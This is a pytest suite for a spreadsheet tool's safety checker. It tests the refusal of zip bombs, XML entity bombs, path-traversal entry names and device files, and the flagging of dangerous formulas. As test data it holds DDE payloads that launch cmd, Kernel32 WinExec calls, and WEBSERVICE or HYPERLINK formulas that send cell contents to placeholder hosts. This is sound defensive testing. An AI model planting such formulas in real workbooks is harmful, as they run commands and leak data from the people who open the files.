"""Tests for sheetgen.workbook.safety: every hostile file is refused quickly, in one sentence.

The hostile files come from tests/hostile.py and are all small on disk; the
nastiest are also opened in a child process limited to 1 GiB of address space
and a timeout, which proves that memory and time stay bounded rather than
merely that the right exception appears on a big machine.
"""

from __future__ import annotations

import contextlib
import dataclasses
import io
import json
import os
import re
import resource
import signal
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sheetgen.engine import hazards
from sheetgen.engine.hazards import formula_hazards
from sheetgen.errors import InputFileError, TooLargeError, UnsafeFileError
from sheetgen.workbook import safety
from sheetgen.workbook.safety import (
    Limits,
    check_file,
    load_checked,
    open_workbook,
    read_checked,
)

from . import hostile

TESTS = Path(__file__).resolve().parent

# --------------------------------------------------------------------------- helpers


@contextlib.contextmanager
def deadline(seconds: int) -> Iterator[None]:
    """Fail instead of hanging (e.g. a regression that reads /dev/zero)."""

    def expired(_signum: int, _frame: object) -> None:
        raise TimeoutError(f"took longer than {seconds} s")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def assert_one_sentence(message: str, path: Path) -> None:
    assert "\n" not in message and "Traceback" not in message
    assert message.endswith("."), message
    assert ". " not in message.rstrip("."), message
    assert message.startswith(str(path)), message  # the path as given, not its base name


def refused(
    path: Path,
    error: type[InputFileError],
    fragment: str,
    limits: Limits = safety.DEFAULT_LIMITS,
    seconds: int = 10,
) -> str:
    """Open ``path``, expecting exactly ``error`` with ``fragment`` in its message."""
    started = time.monotonic()
    with deadline(seconds), pytest.raises(InputFileError) as caught:
        open_workbook(path, limits)
    assert time.monotonic() - started < seconds
    assert type(caught.value) is error, f"{type(caught.value).__name__}: {caught.value}"
    message = str(caught.value)
    assert fragment in message, message
    assert_one_sentence(message, path)
    return message


@pytest.fixture(scope="session")
def hostile_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("hostile")


@pytest.fixture
def valid(tmp_path: Path) -> Path:
    return hostile.valid_workbook(tmp_path / "valid.xlsx")


# --------------------------------------------------------------------------- valid input


def test_valid_workbook_with_defined_name_passes_untouched(valid: Path) -> None:
    before = valid.read_bytes()
    mtime = valid.stat().st_mtime_ns
    checked = load_checked(valid)
    wb = checked.workbook
    assert wb.sheetnames == ["Data"]
    assert wb["Data"]["C1"].value == "=B1*2"
    assert wb["Data"]["B2"].value == -1.25
    assert "rate" in wb.defined_names
    assert wb.defined_names["rate"].attr_text == "Data!$B$1"
    facts = checked.facts
    assert facts.has_macros is False
    assert facts.external_links == ()
    assert facts.worksheets == 1
    assert facts.cells >= 5
    assert facts.size_bytes == len(before)
    assert check_file(valid) == facts
    assert valid.read_bytes() == before
    assert valid.stat().st_mtime_ns == mtime


def test_limits_must_be_positive() -> None:
    with pytest.raises(ValueError, match="max_cells"):
        Limits(max_cells=0)


def test_refuses_when_defusedxml_is_off(valid: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(openpyxl, "DEFUSEDXML", False)
    refused(valid, UnsafeFileError, "without defusedxml")


@pytest.mark.parametrize(
    ("exhaustion", "error", "sentence"),
    [
        (MemoryError, TooLargeError, "is too large to check on this machine"),
        (RecursionError, UnsafeFileError, "nested too deeply"),
    ],
)
def test_a_reader_running_out_is_one_sentence(
    valid: Path,
    monkeypatch: pytest.MonkeyPatch,
    exhaustion: type[Exception],
    error: type[InputFileError],
    sentence: str,
) -> None:
    """Running out of memory is no sign of a hostile file: it is told as one too large for
    the machine (``TooLargeError``), not as one past a safety limit."""

    def exhausted(*_args: object, **_kwargs: object) -> None:
        raise exhaustion

    monkeypatch.setattr("sheetgen.workbook.safety.vet.read_book", exhausted)
    monkeypatch.setattr(openpyxl, "load_workbook", exhausted)
    for read in (read_checked, load_checked):
        with pytest.raises(error, match=sentence) as caught:
            read(valid)
        assert type(caught.value) is error
        assert valid.name in str(caught.value)
        assert caught.value.__cause__ is None


# --------------------------------------------------------------------------- not a file


def test_missing_file(tmp_path: Path) -> None:
    refused(tmp_path / "nope.xlsx", InputFileError, "does not exist")


def test_directory(tmp_path: Path) -> None:
    (tmp_path / "dir.xlsx").mkdir()
    refused(tmp_path / "dir.xlsx", UnsafeFileError, "is a directory")


def test_symlink_to_dev_zero_is_never_read(tmp_path: Path) -> None:
    link = tmp_path / "zero.xlsx"
    link.symlink_to("/dev/zero")
    refused(link, UnsafeFileError, "is a device (through a symbolic link)", seconds=2)


def test_device_itself() -> None:
    refused(Path("/dev/zero"), UnsafeFileError, "is a device", seconds=2)


def test_fifo_does_not_block(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.xlsx"
    os.mkfifo(fifo)
    refused(fifo, UnsafeFileError, "is a pipe", seconds=2)


def test_file_too_large(tmp_path: Path) -> None:
    path = tmp_path / "big.xlsx"
    with path.open("wb") as f:
        f.truncate(51 * 1024 * 1024)  # sparse: costs nothing on disk
    refused(path, UnsafeFileError, "larger than the limit")


# --------------------------------------------------------------------------- containers


def test_encrypted_ole_container(hostile_dir: Path) -> None:
    refused(hostile.encrypted(hostile_dir), InputFileError, "is password-protected (encrypted)")


@pytest.mark.parametrize(
    ("content", "fragment"),
    [
        (b"", "is empty"),
        (b"a,b,c\n1,2,3\n", "text file"),
        (b"%PDF-1.7\n", "PDF document"),
        (b"<html><body>x</body></html>", "XML or HTML file"),
        (bytes(range(256)), "is not an .xlsx or .xlsm workbook"),
        (b"PK\x05\x06" + bytes(18), "empty zip archive"),
        (b"PK\x03\x04" + bytes(40), "is damaged or incomplete"),
    ],
)
def test_not_a_zip(tmp_path: Path, content: bytes, fragment: str) -> None:
    path = tmp_path / "input.xlsx"
    path.write_bytes(content)
    refused(path, InputFileError, fragment)


@pytest.mark.parametrize(
    ("kind", "fragment"),
    [
        ("ods", "is an OpenDocument spreadsheet (.ods), not an .xlsx workbook"),
        ("docx", "is a Word document (.docx)"),
        ("pptx", "is a PowerPoint presentation (.pptx)"),
        ("xlsb", "is a binary .xlsb workbook"),
        ("zip", "is a zip archive, not an .xlsx workbook"),
    ],
)
def test_other_zip_formats_are_named(hostile_dir: Path, kind: str, fragment: str) -> None:
    refused(hostile.other_zip(hostile_dir, kind), InputFileError, fragment)


# --------------------------------------------------------------------------- zip directory


@pytest.mark.parametrize(
    ("name", "fragment"),
    [
        ("../evil.xml", "'..' or '.' path component"),
        ("xl/../../evil.xml", "'..' or '.' path component"),
        ("./evil.xml", "'..' or '.' path component"),
        ("xl/./evil.xml", "'..' or '.' path component"),
        ("xl/worksheets/..", "'..' or '.' path component"),
        ("/etc/evil.xml", "an absolute path"),
        ("C:/evil.xml", "an absolute path"),
        ("xl\\worksheets\\evil.xml", "a backslash"),
        ("xl//evil.xml", "an empty path component"),
        ("xl/\x1b[31mred.xml", "a control character"),
    ],
)
def test_bad_entry_names(tmp_path: Path, name: str, fragment: str) -> None:
    message = refused(hostile.bad_name(tmp_path, name), UnsafeFileError, fragment)
    assert "\x1b" not in message  # escapes from the file never reach the terminal


@pytest.mark.parametrize("second", [hostile.SHEET, hostile.SHEET.upper()])
def test_duplicate_entries(tmp_path: Path, second: str) -> None:
    refused(hostile.duplicate_entry(tmp_path, second), UnsafeFileError, "twice")


def test_too_many_entries(hostile_dir: Path) -> None:
    refused(hostile.many_entries(hostile_dir), UnsafeFileError, "zip entries, more than the limit")


def test_entry_count_in_end_record_cannot_hide_entries(hostile_dir: Path, tmp_path: Path) -> None:
    data = bytearray(hostile.many_entries(hostile_dir).read_bytes())
    eocd = data.rfind(b"PK\x05\x06")
    data[eocd + 8 : eocd + 12] = b"\x01\x00\x01\x00"  # claim one entry
    path = tmp_path / "lying_count.xlsx"
    path.write_bytes(bytes(data))
    refused(path, UnsafeFileError, "zip entries, more than the limit")


def test_sheet_zip_bomb(hostile_dir: Path) -> None:
    path = hostile.sheet_zip_bomb(hostile_dir)
    assert path.stat().st_size < 2_000_000
    refused(path, UnsafeFileError, "has the sheet 'Data' inflating to 1,099,956,991 bytes")


def test_zip_bomb_under_entry_limit_is_caught_by_ratio(tmp_path: Path) -> None:
    path = hostile.sheet_zip_bomb(tmp_path, inflated=50 * 1024 * 1024)
    refused(path, UnsafeFileError, "to 1, beyond the limit of 100 to 1")


def test_total_inflated_size(tmp_path: Path) -> None:
    path = hostile.sheet_zip_bomb(tmp_path, inflated=3 * 1024 * 1024)
    limits = Limits(max_total_bytes=2 * 1024 * 1024, max_ratio=1e9)
    refused(path, UnsafeFileError, "in total", limits)


def test_bzip2_bomb(hostile_dir: Path) -> None:
    refused(hostile.bzip2_bomb(hostile_dir), UnsafeFileError, "bzip2 compression")


def test_lzma_part(hostile_dir: Path) -> None:
    refused(hostile.lzma_part(hostile_dir), UnsafeFileError, "LZMA compression")


def test_forged_size_header_never_inflates_past_it(hostile_dir: Path) -> None:
    # The header claims 4 kB for 200 MB: at most the claimed bytes are inflated.
    refused(
        hostile.lying_size_bomb(hostile_dir), InputFileError, "is damaged or incomplete", seconds=2
    )


def test_naming_a_refused_sheet_inflates_no_forged_workbook_part(tmp_path: Path) -> None:
    """A refusal names a sheet by the title the workbook part gives it, read only when the
    refusal is worded, maybe before the scan has seen that part: one whose header claims
    its own size for 300 MB was inflated whole (zipfile's read inflates everything a part
    holds; the declared size only cuts what it returns). Its title is then not known."""
    import tracemalloc

    entries = {e.name: e for e in hostile.entries_of(hostile._base(tmp_path))}
    sheet = hostile.read_parts(hostile._base(tmp_path))[hostile.SHEET]
    head, _, tail = sheet.partition(b"<sheetData>")
    bomb = hostile.repeated_deflate(head + b"<sheetData>", b" " * (1 << 20), 1050, tail)
    entries[hostile.SHEET] = dataclasses.replace(bomb, name=hostile.SHEET)
    book = entries["xl/workbook.xml"]
    forged = hostile.repeated_deflate(b"<workbook>", b" " * (1 << 20), 300, b"</workbook>")
    entries[book.name] = dataclasses.replace(forged, name=book.name, size=book.size)
    path = hostile.write_raw_zip(tmp_path / "forged.xlsx", entries.values())
    tracemalloc.start()
    try:
        message = refused(path, UnsafeFileError, "inflating to 1,101,")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "has a sheet, kept in the file as xl/worksheets/sheet1.xml inflating" in message
    assert peak < 20_000_000, peak


def test_encrypted_zip_entry(tmp_path: Path) -> None:
    entries = hostile.entries_of(hostile._base(tmp_path))
    entries[0] = dataclasses.replace(entries[0], flags=1)
    path = hostile.write_raw_zip(tmp_path / "zipcrypto.xlsx", entries)
    refused(
        path, InputFileError, "has the file's properties (the application that saved it) encrypted;"
    )


# --------------------------------------------------------------------------- XML


def test_billion_laughs(hostile_dir: Path) -> None:
    refused(
        hostile.xml_entity_bomb(hostile_dir),
        UnsafeFileError,
        "contains an XML entity declaration in the workbook's shared text (the text its cells "
        "hold) (a possible XML bomb).",
    )


def test_external_entity(hostile_dir: Path) -> None:
    refused(hostile.xml_external_entity(hostile_dir), UnsafeFileError, "XML entity declaration")


def test_doctype_without_entities(hostile_dir: Path) -> None:
    refused(hostile.doctype_only(hostile_dir), UnsafeFileError, "document type declaration")


def test_huge_shared_string(hostile_dir: Path) -> None:
    path = hostile.huge_shared_string(hostile_dir)
    assert path.stat().st_size < 2_000_000
    refused(
        path,
        UnsafeFileError,
        "has the workbook's shared text (the text its cells hold) inflating to 1,099,956,343 bytes",
    )


def test_huge_shared_string_is_caught_while_streaming(hostile_dir: Path) -> None:
    # With the size and ratio guards off, the text cap alone stops it early.
    path = hostile.huge_shared_string(hostile_dir)
    limits = Limits(max_entry_bytes=2**31, max_total_bytes=2**31, max_ratio=1e9)
    refused(path, UnsafeFileError, "longer than 1,000,000 characters", limits, seconds=5)


def test_long_incompressible_string(hostile_dir: Path) -> None:
    path = hostile.long_incompressible_string(hostile_dir)
    refused(
        path,
        UnsafeFileError,
        "has, in the workbook's shared text (the text its cells hold), a piece of text longer "
        "than 1,000,000 characters",
    )


def test_string_split_into_many_short_runs(hostile_dir: Path) -> None:
    refused(hostile.many_runs_string(hostile_dir), UnsafeFileError, "longer than 1,000,000")


def test_deep_nesting(hostile_dir: Path) -> None:
    refused(hostile.deep_nesting(hostile_dir), UnsafeFileError, "more than 100 levels deep")


@pytest.mark.parametrize(
    ("replacement", "fragment"),
    [
        (b"<worksheet><sheetData><row>", "the sheet 'Data' stops unfinished at line 1, column 28"),
        (b"", "the sheet 'Data' stops unfinished at line 1, column 1"),
        (
            b'<worksheet><sheetData><row r="1"><c r="1A"/></row></sheetData></worksheet>',
            "in the sheet 'Data', a cell is addressed '1A', which is not a place in Excel's grid",
        ),
    ],
)
def test_damaged_sheet_xml(tmp_path: Path, replacement: bytes, fragment: str) -> None:
    path = hostile.rebuild(
        hostile._base(tmp_path),
        tmp_path / "bad_xml.xlsx",
        replace_parts={hostile.SHEET: replacement},
    )
    refused(path, InputFileError, fragment)


# --------------------------------------------------------------------------- cells and ranges


def test_whole_sheet_merge(hostile_dir: Path) -> None:
    refused(hostile.whole_sheet_merge(hostile_dir), UnsafeFileError, "uses the range A1:XFD1048576")


def test_whole_column_hyperlink(hostile_dir: Path) -> None:
    refused(
        hostile.whole_column_hyperlink(hostile_dir), UnsafeFileError, "uses the range A1:C1048576"
    )


def test_a_dimension_claim_is_only_a_claim(hostile_dir: Path) -> None:
    """LibreOffice writes an empty row 1048576 after a row is deleted; what counts is the
    cells and merges a sheet really has, not the used range it claims."""
    assert read_checked(hostile.claimed_dimension(hostile_dir)).book.sheets


def test_far_cell(hostile_dir: Path) -> None:
    refused(
        hostile.far_cell(hostile_dir), UnsafeFileError, "more than the limit of 1,000,000 cells"
    )


def test_cell_beyond_grid(hostile_dir: Path) -> None:
    refused(hostile.beyond_grid(hostile_dir), UnsafeFileError, "outside Excel's grid")


def test_cells_without_r_past_the_last_column(hostile_dir: Path) -> None:
    """Read with the reader listening to the safety pass: the pass refuses the column past
    XFD in its own sentence before the reader names the cell."""
    with pytest.raises(UnsafeFileError, match="outside Excel's grid"):
        read_checked(hostile.wide_row(hostile_dir))
    refused(hostile.wide_row(hostile_dir), UnsafeFileError, "outside Excel's grid")


def test_too_many_cells(tmp_path: Path) -> None:
    path = hostile.many_cells(tmp_path, 2000)
    refused(path, UnsafeFileError, "more than 1,000 cells", Limits(max_cells=1000))
    # 2000 + the base sheet's 5 cells + its 3-cell merge A4:C4
    assert check_file(path, Limits(max_cells=3000)).cells == 2008


def test_many_small_merges_add_up(tmp_path: Path) -> None:
    path = hostile.many_merges(tmp_path, 200)  # 200 merges of 10 cells
    refused(path, UnsafeFileError, "counting merged and linked ranges", Limits(max_cells=1000))


def test_long_shared_formula_over_many_cells(hostile_dir: Path) -> None:
    # openpyxl re-tokenises the 1,000-character master for each of 20,000 cells.
    path = hostile.shared_formula_flood(hostile_dir)
    refused(path, UnsafeFileError, "shares formulas over too many cells")


def test_ordinary_shared_formulas_load(tmp_path: Path) -> None:
    wb = open_workbook(hostile.shared_formula_flood(tmp_path, cells=100, length=50))
    assert wb["Data"]["C12"].value == "=A3+A4+A5+A6+A7+A8+A9+A10+A11"


def test_hyperlinks_inside_many_merges(hostile_dir: Path) -> None:
    # Naively, 300 of each take 6 s and 2,000 of each 91 s.
    refused(hostile.merges_and_links(hostile_dir, 2000), UnsafeFileError, "hyperlinks inside")


def test_some_hyperlinks_inside_merges_load(tmp_path: Path) -> None:
    wb = open_workbook(hostile.merges_and_links(tmp_path, 100))
    assert wb["Data"]["A12"].hyperlink.location == "Data!A1"


def test_too_many_xml_elements(tmp_path: Path) -> None:
    path = hostile.many_cells(tmp_path, 2000)
    refused(path, UnsafeFileError, "XML elements", Limits(max_xml_elements=1000))


def test_text_limit_counts_characters_not_bytes(tmp_path: Path) -> None:
    # 600 escaped characters are 3,000 bytes but only 600 characters.
    strings = (
        f'<sst xmlns="{hostile.MAIN_NS}"><si><t>' + "&amp;" * 600 + "</t></si></sst>"
    ).encode()
    path = hostile._with_shared_strings(
        tmp_path, tmp_path / "amp.xlsx", hostile.deflated("", strings)
    )
    wb = open_workbook(path, Limits(max_text_chars=1000))
    assert wb["Data"]["A1"].value == "&" * 600
    refused(path, UnsafeFileError, "longer than 500 characters", Limits(max_text_chars=500))


# --------------------------------------------------------------------------- findings that load


def test_external_link_is_a_finding_not_loaded(hostile_dir: Path) -> None:
    checked = load_checked(hostile.external_link_workbook(hostile_dir))
    assert checked.facts.external_links == ("file:///C:/secret/other.xlsx",)
    wb = checked.workbook
    assert wb._external_links == []  # keep_links=False: never read
    formula = wb["Data"]["C1"].value
    assert formula == "=[1]Sheet1!B2*C2+D2"
    assert formula_hazards(formula) == ["external-reference"]


def test_dde_label_loads_and_is_flagged(hostile_dir: Path) -> None:
    wb = open_workbook(hostile.dde_label(hostile_dir))
    formula = wb["Data"]["A2"].value
    assert formula == "=cmd|' /C calc'!A0"
    assert formula_hazards(formula) == ["dde"]


def test_macros_are_reported_never_loaded(hostile_dir: Path) -> None:
    checked = load_checked(hostile.with_macros(hostile_dir))
    assert checked.facts.has_macros is True
    assert checked.workbook.vba_archive is None


# --------------------------------------------------------------------------- bounded memory/time

# Each runs in a child with a 1 GiB address-space limit: a regression that
# inflates, expands or reads without bound dies with MemoryError or the
# timeout instead of passing on a big machine.
_CHILD = """
import json, resource, sys
from pathlib import Path
resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
from sheetgen.errors import SheetgenError
from sheetgen.workbook.safety import Limits, open_workbook
limits = Limits(**json.loads(sys.argv[2]))
try:
    open_workbook(Path(sys.argv[1]), limits)
    print("OPENED")
except SheetgenError as exc:
    print(type(exc).__name__, exc)
"""

_RELAXED = {"max_entry_bytes": 2**32, "max_total_bytes": 2**33, "max_ratio": 1e9}

_NASTIEST: list[tuple[str, Callable[[Path], Path], dict[str, float], str]] = [
    ("zip bomb", hostile.sheet_zip_bomb, {}, "(a possible zip bomb)"),
    ("bzip2 bomb", hostile.bzip2_bomb, {}, "bzip2 compression"),
    ("bzip2 bomb, size guards off", hostile.bzip2_bomb, _RELAXED, "bzip2 compression"),
    ("huge shared string", hostile.huge_shared_string, {}, "(a possible zip bomb)"),
    ("huge string, size guards off", hostile.huge_shared_string, _RELAXED, "longer than"),
    ("zip bomb, size guards off", hostile.sheet_zip_bomb, _RELAXED, "UnsafeFileError"),
    ("whole-sheet merge", hostile.whole_sheet_merge, {}, "A1:XFD1048576"),
    ("far cell", hostile.far_cell, {}, "cells per sheet"),
    ("billion laughs", hostile.xml_entity_bomb, {}, "XML entity declaration"),
]


@pytest.mark.parametrize(
    ("build", "limits", "expected"),
    [pytest.param(b, lim, e, id=name) for name, b, lim, e in _NASTIEST],
)
def test_nastiest_in_bounded_child(
    hostile_dir: Path, build: Callable[[Path], Path], limits: dict[str, float], expected: str
) -> None:
    path = build(hostile_dir)
    started = time.monotonic()
    result = subprocess.run(
        [sys.executable, "-c", _CHILD, str(path), json.dumps(limits)],
        capture_output=True,
        text=True,
        timeout=30,
        cwd=path.parent,  # not the checkout: the installed sheetgen is what runs
        check=False,
    )
    elapsed = time.monotonic() - started
    assert result.returncode == 0, result.stderr[-2000:]
    assert result.stdout.startswith("UnsafeFileError "), result.stdout
    assert expected in result.stdout
    assert elapsed < 15


def test_dev_zero_symlink_in_bounded_child(tmp_path: Path) -> None:
    link = tmp_path / "zero.xlsx"
    link.symlink_to("/dev/zero")
    result = subprocess.run(
        [sys.executable, "-c", _CHILD, str(link), "{}"],
        capture_output=True,
        text=True,
        timeout=30,
        cwd=tmp_path,  # not the checkout: the installed sheetgen is what runs
        check=False,
    )
    assert result.stdout.startswith("UnsafeFileError "), result.stdout + result.stderr


# --------------------------------------------------------------------------- fuzzing


def _valid_bytes() -> bytes:
    with tempfile.TemporaryDirectory() as d:
        return hostile.valid_workbook(Path(d) / "v.xlsx").read_bytes()


VALID_BYTES = _valid_bytes()


def _rezip(parts: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts:
            with warnings_ignored():
                zf.writestr(name, data)
    return buf.getvalue()


@contextlib.contextmanager
def warnings_ignored() -> Iterator[None]:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns on duplicate names
        yield


def _parts() -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(VALID_BYTES)) as zf:
        return [(i.filename, zf.read(i)) for i in zf.infolist()]


@st.composite
def mutated_workbooks(draw: st.DrawFn) -> bytes:
    kind = draw(st.sampled_from(["truncate", "flip", "drop", "duplicate", "xml", "swap"]))
    data = VALID_BYTES
    if kind == "truncate":
        return data[: draw(st.integers(0, len(data) - 1))]
    if kind == "flip":
        buf = bytearray(data)
        for _ in range(draw(st.integers(1, 8))):
            at = draw(st.integers(0, len(buf) - 1))
            buf[at] ^= draw(st.integers(1, 255))
        return bytes(buf)
    parts = _parts()
    index = draw(st.integers(0, len(parts) - 1))
    if kind == "drop":
        del parts[index]
    elif kind == "duplicate":
        parts.insert(draw(st.integers(0, len(parts))), parts[index])
    elif kind == "swap":
        other = draw(st.integers(0, len(parts) - 1))
        (a, _), (b, _) = parts[index], parts[other]
        parts[index] = (a, parts[other][1])
        parts[other] = (b, parts[index][1] if index == other else _parts()[index][1])
    else:
        name, xml = parts[index]
        at = draw(st.integers(0, len(xml)))
        junk = draw(st.sampled_from([b"<", b"&", b"</x>", b"\x00", b"<!DOCTYPE x>", b"]]>", b""]))
        cut = draw(st.integers(0, 20))
        parts[index] = (name, xml[:at] + junk + xml[at + cut :])
    return _rezip(parts)


@settings(
    max_examples=50,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(data=mutated_workbooks())
def test_mutated_workbooks_load_or_raise_input_file_error(data: bytes) -> None:
    with tempfile.TemporaryDirectory() as d:
        path = Path(d) / "mutant.xlsx"
        path.write_bytes(data)
        with deadline(10):
            try:
                open_workbook(path)
            except InputFileError as exc:
                assert_one_sentence(str(exc), path)


# --------------------------------------------------------------------------- formula hazards


def test_name_characters_are_the_regular_expressions() -> None:
    """``hazards._name_char`` answers what the regular expression it stands for answers."""
    pattern = re.compile(r"[A-Za-z0-9_.\\\u00c0-\uffff]")
    texts = [chr(c) for c in range(0x11000)] + ["\U0001f600", "\U0010ffff", "", "ab", "a\u00e9"]
    for text in texts:
        assert hazards._name_char(text) == bool(pattern.fullmatch(text)), repr(text)


@pytest.mark.parametrize(
    ("formula", "expected"),
    [
        # harmless
        ("=SUM(A1:B2)*2", []),
        ("=Sheet1!A1+'My Sheet'!B2", []),
        ("='Jan:Dec'!A1", []),
        ("=SUM(Table1[Col])+Table1[[#This Row],[Col]]", []),
        ("=[@Weight]*2", []),
        ('="INDIRECT(A1) and [1]Sheet1!A1 and cmd|x"', []),
        ('=CONCAT("a|b", "\'C:\\x\\[y.xlsx]S\'!A1")', []),
        ("=MYINDIRECT(A1)+INDIRECTLY(2)", []),
        ("=1/0", []),
        ("", []),
        # external references
        ("=[1]Sheet1!B2*C2+D2", ["external-reference"]),
        ("[2]Data!$A$1", ["external-reference"]),
        ("=SUM([1]!Total)", ["external-reference"]),
        ("='C:\\path\\[x.xlsx]S'!A1", ["external-reference"]),
        ("='\\\\server\\share\\[x.xlsx]S'!A1", ["external-reference"]),
        ("='file:///home/u/x.xlsx'#S!A1", ["external-reference"]),
        ("='file:///etc/passwd'!A1", ["external-reference"]),
        ("='https://example.com/[x.xlsx]S'!A1", ["external-reference"]),
        ("=[Book2.xlsx]Sheet1!A1", ["external-reference"]),
        ("='[Book 2.xlsx]My Sheet'!A1", ["external-reference"]),
        # DDE
        ("=cmd|' /C calc'!A0", ["dde"]),
        ("=CMD|' /C calc'!A0", ["dde"]),
        ("@SUM(1+1)*cmd|' /C calc'!A0", ["dde"]),
        ("=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", ["dde"]),
        ('=DDE("cmd";"/C calc";"__DdeLink_60_870516294")', ["dde"]),
        # dangerous functions, many spellings
        ('=WEBSERVICE("http://x/?"&A1)', ["webservice"]),
        ('=_xlfn.WEBSERVICE("http://x")', ["webservice"]),
        ('=webservice ("http://x")', ["webservice"]),
        ('=_xlfn.FILTERXML(A1,"//a")', ["filterxml"]),
        ('=HYPERLINK("http://evil/"&A1,"click")', ["hyperlink"]),
        ("=hyperlink(A1)", ["hyperlink"]),
        ('=CALL("Kernel32","WinExec","JCJ","calc",0)', ["call"]),
        ('=REGISTER.ID("Kernel32","WinExec","JCJ")', ["register-id"]),
        ('=register.id("k","w")', ["register-id"]),
        ('=INDIRECT("Sheet1!A"&B1)', ["indirect"]),
        ("=indirect(A1)", ["indirect"]),
        ("=SUM(INDIRECT ( A1 ))", ["indirect"]),
        ("='My Sheet'!A1+INDIRECT(\"x\")", ["indirect"]),
        ('=RTD("prog.id",,"topic")', ["rtd"]),
        ('=_xlfn.IMAGE("https://x/p.png")', ["image"]),
        ('=EXEC("calc")', ["exec"]),
        # several at once, in stable order
        (
            "=[1]S!A1+INDIRECT(A2)+WEBSERVICE(A3)+cmd|'x'!A0",
            ["external-reference", "dde", "webservice", "indirect"],
        ),
    ],
)
def test_formula_hazards(formula: str, expected: list[str]) -> None:
    assert formula_hazards(formula) == expected


_HAZARD_PIECES = [
    *"=[]'\"|!@#()_.:\\/ aA1,;",
    *(name.lower() for name in hazards.HAZARD_FUNCTIONS),
    *hazards.HAZARD_FUNCTIONS,
    "\u0131mage",  # dotless i: upper-cases to IMAGE, as the full scan reads names
    "webservi\u017fe",  # long s: upper-cases to S
    "_xlfn.",
    "TANH",
    "B2",
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_HAZARD_PIECES), max_size=12).map("".join))
def test_formula_hazards_shortcut_is_the_full_scan(formula: str) -> None:
    """A formula the quick search finds nothing a hazard needs in has no hazard by the full
    scan either."""
    assert formula_hazards(formula) == list(hazards._hazards_of(formula))


def test_every_hazard_code_is_described() -> None:
    assert set(hazards.HAZARD_FUNCTIONS.values()) <= set(hazards.HAZARD_DESCRIPTIONS)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("=[]'\"|!@#()_.:\\/ aAzZ1,;xX")), max_size=40))
def test_formula_hazards_never_raises(formula: str) -> None:
    result = formula_hazards(formula)
    assert set(result) <= set(hazards.HAZARD_DESCRIPTIONS)


@given(st.text(max_size=60))
@settings(max_examples=100, deadline=None)
def test_formula_hazards_never_raises_on_any_text(formula: str) -> None:
    formula_hazards(formula)


def test_children_rlimit_helper_is_available() -> None:
    # The bounded-child tests rely on RLIMIT_AS existing (Linux).
    assert hasattr(resource, "RLIMIT_AS")


def _figure(path: Path, limits: Limits) -> float | None:
    """The figure a refusal of ``path`` by ``check_file`` suggests, or None if it passes."""
    try:
        safety.check_file(path, limits)
    except UnsafeFileError as exc:
        assert_one_sentence(str(exc), path)
        found = re.search(r"--limit \w+=(\S+?)\)", str(exc))
        assert found is not None, str(exc)
        return float(found.group(1))
    return None


def _two_far_cells(directory: Path) -> Path:
    cells = b'<row r="60"><c r="B60"><v>1</v></c></row><row r="90"><c r="F90"><v>1</v></c></row>'
    return hostile._sheet_with(directory, directory / "far.xlsx", cells=cells)


def _two_large_parts(directory: Path) -> Path:
    entries = hostile.entries_of(hostile.valid_workbook(directory / "base.xlsx"))
    entries += [
        hostile.deflated(f"customXml/item{n}.xml", b"<r>" + b"<a/>" * n + b"</r>")
        for n in (3000, 9000)
    ]
    return hostile.write_raw_zip(directory / "large.xlsx", entries)


@pytest.mark.parametrize(
    ("make", "name", "limits"),
    [
        (_two_far_cells, "max_sheet_area", Limits(max_sheet_area=100)),
        (_two_large_parts, "max_entry_bytes", Limits(max_entry_bytes=1000)),
        (_two_large_parts, "max_ratio", Limits(max_ratio=2, ratio_floor_bytes=100)),
    ],
    ids=["sheet-area", "entry-bytes", "ratio"],
)
def test_a_refusal_at_the_first_breach_suggests_what_the_whole_file_needs(
    make: Callable[[Path], Path], name: str, limits: Limits, tmp_path: Path
) -> None:
    """The sheet's area was the range at the first cell past the limit, a part's size or
    compression the first part's past it: a later cell or part needing more was refused
    again with the figure raised. The figure is the whole file's: it lets the file through."""
    path = make(tmp_path)
    needed = _figure(path, limits)
    assert needed is not None
    raised: dict[str, Any] = {name: needed if name == "max_ratio" else int(needed)}
    assert _figure(path, dataclasses.replace(limits, **raised)) is None


def _figures(path: Path, limits: Limits) -> dict[str, float]:
    """Every limit a refusal of ``path`` by ``check_file`` names, with the figure it suggests
    (none if it passes)."""
    try:
        safety.check_file(path, limits)
    except UnsafeFileError as exc:
        said = str(exc)
        assert_one_sentence(said, path)
        found = re.findall(r"--limit (\w+)=([^ )]+)", said)
        assert found, said
        return {name: float(figure) for name, figure in found}
    return {}


@pytest.mark.parametrize(
    ("make", "limits"),
    [
        (_two_large_parts, Limits(max_entry_bytes=1000, max_ratio=2, ratio_floor_bytes=100)),
        (hostile.cells_and_a_long_string, Limits(max_cells=100, max_text_chars=1000)),
    ],
    ids=["entry-bytes-and-ratio", "cells-and-text"],
)
def test_a_file_past_several_limits_is_told_them_all_with_the_figures_that_pass_it(
    make: Callable[[Path], Path], limits: Limits, tmp_path: Path
) -> None:
    """A file past two limits named the first: raised, the second came on the next run. The
    refusal names every limit the file is past, each with its figure, in one sentence: with
    them all the file passes, and one less on any is refused for that limit."""
    path = make(tmp_path)
    needed = _figures(path, limits)
    assert len(needed) == 2, needed
    raised: dict[str, Any] = {
        name: figure if name == "max_ratio" else int(figure) for name, figure in needed.items()
    }
